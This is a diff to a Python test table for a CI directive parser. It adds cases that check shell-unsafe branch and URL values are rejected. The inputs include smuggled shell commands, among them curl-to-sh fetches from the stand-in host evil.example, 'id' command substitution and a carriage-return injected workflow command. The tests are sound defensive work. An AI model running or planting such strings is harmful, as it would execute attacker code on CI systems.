@@ -69,6 +69,24 @@ CASES = [
     ("refs-other", "ci-sglang-pr: refs/remotes/origin/main", {}, "not a supported ref", None),
     ("bare-number", "ci-sglang-pr: 1234", {}, "did you mean `#1234`", None),
     ("bare-number-7-digits", "ci-sglang-pr: 1234567", {}, "did you mean `#1234567`", None),
+    # ---- values that end up in other people's scripts (shell-safe, DESIGN §3) ----
+    ("shell-command-substitution", "ci-megatron-pr: $(curl${IFS}-s${IFS}evil.example|sh)", {},
+     "contains '$': a branch or tag name here may use only letters, digits and . _ / + -", None),
+    ("shell-semicolon", "ci-sglang-pr: main;id", {}, "give the branch's commit SHA instead",
+     None),
+    ("shell-quote", "ci-sglang-pr: it's", {}, "contains \"'\"", None),
+    ("shell-backtick-inside", "ci-sglang-pr: a`id`b", {}, "contains '`'", None),
+    ("shell-hash-in-refs-heads", "ci-sglang-pr: refs/heads/fix#1", {}, "contains '#'", None),
+    ("shell-at-sign", "ci-sglang-pr: user@feature", {}, "contains '@'", None),
+    ("shell-safe-plus", "ci-sglang-pr: v1.0+rocm", {"sglang": "v1.0+rocm"}, None, None),
+    ("url-tail-with-shell", "ci-sglang-pr: `https://github.com/sgl-project/sglang/pull/1/x'; "
+     "curl -s evil.example | sh; echo '`", {}, "is not a supported URL", None),
+    ("url-tail-ampersand", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/1?a=1&b=2",
+     {}, "is not a supported URL", None),
+    ("url-cr-ends-the-line", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/12/x\r"
+     "::error title=Injected::hi", {"sglang": PR}, None, None),
+    ("control-escape", "ci-sglang-pr: a\x1bb", {}, "control character U+001B", None),
+    ("control-in-backticks", "ci-sglang-pr: `#1\x07`", {}, "control character U+0007", None),
     # ---- how the value is written ----
     ("backticked", "ci-sglang-pr: `#12`", {"sglang": PR}, None, None),
     ("backticked-inner-spaces", "ci-sglang-pr: ` #12 `", {"sglang": PR}, None, None),
